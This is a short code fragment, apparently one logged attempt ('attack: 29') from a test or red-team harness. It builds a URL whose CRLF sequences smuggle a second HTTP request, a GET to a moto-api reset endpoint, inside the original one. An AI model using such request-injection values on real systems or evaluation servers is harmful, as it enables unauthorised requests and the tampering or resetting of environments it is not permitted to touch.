# attack: 29
# does: hands in a link with line breaks, that would be requests of their own
# run: finished
# earns: 0
# with: work
work()
url = url.replace("?", " HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\nGET /moto-api/reset?")
